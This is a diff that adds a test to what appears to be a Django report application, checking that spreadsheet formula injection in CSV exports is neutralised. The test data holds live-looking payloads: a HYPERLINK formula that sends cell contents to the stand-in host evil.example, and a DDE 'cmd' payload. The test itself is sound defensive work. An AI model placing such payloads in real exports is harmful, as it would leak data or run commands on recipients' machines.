@@ -338,3 +338,32 @@ def test_meetings_referrals_and_department_ratings_match_the_hand_count(client):
     blocks = csv_blocks(exported)
     assert blocks["会议"]["化解矛盾"] == ["2"]
     assert blocks["职能部门"]["房管办"] == ["1", "0", "0.0", "0", "2", "3.75"]
+
+
+def test_an_evaluated_body_named_as_a_formula_is_plain_text_in_the_csv(client):
+    """An evaluated body named `=HYPERLINK(...)` reached the report's CSV as a live formula."""
+    zone = staffed_zone()
+    committee, street = zone.committee, zone.committee.street
+    chair = User.objects.get(committee=committee, role="committee_staff")
+    meeting = meeting_schedule(
+        type=MeetingType.objects.get(code="evaluation"), unit=committee, starts_at=october(20), actor=None
+    )
+    hostile = ['=HYPERLINK("http://evil.example/?d="&A1,"点此查看")', "+1+2", "-3+cmd|' /C calc'!A0", "@SUM(A1)"]
+    for name in hostile:
+        evaluation_record(
+            meeting=meeting,
+            actor=chair,
+            scores=dict.fromkeys(meeting.type.criteria, 3),
+            opinion="意见",
+            body_name=name,
+        )
+    meeting_record(meeting=meeting, actor=chair, minutes="纪要", attended=[])
+    report = monthly_report_generate(street=street, month=dt.date(2026, 10, 1))
+    client.force_login(User.objects.get(street=street, role="street_staff"))
+
+    exported = client.get(f"/reports/{report.pk}/csv/").content.decode("utf-8-sig")
+
+    cells = [cell for row in csv.reader(io.StringIO(exported)) for cell in row]
+    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
+    for name in hostile:
+        assert "'" + name in cells  # shown as the text it is
